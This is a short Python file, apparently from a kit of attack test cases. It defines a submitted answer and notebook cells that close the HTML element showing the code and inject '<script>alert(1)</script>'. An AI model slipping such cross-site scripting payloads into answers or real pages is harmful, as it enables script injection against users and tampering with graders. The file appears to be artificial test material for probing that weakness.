"""Closes the element that shows its code, and goes on with a script."""

from attacks.kit import RIGHT, Earns

OUTCOME = Earns(10)
ANSWER = RIGHT + "\n\n# </pre></div><script>alert(1)</script>\n"
CELLS = ("'</pre><script>alert(1)</script>'", "%%html\n<script>alert(1)</script>")
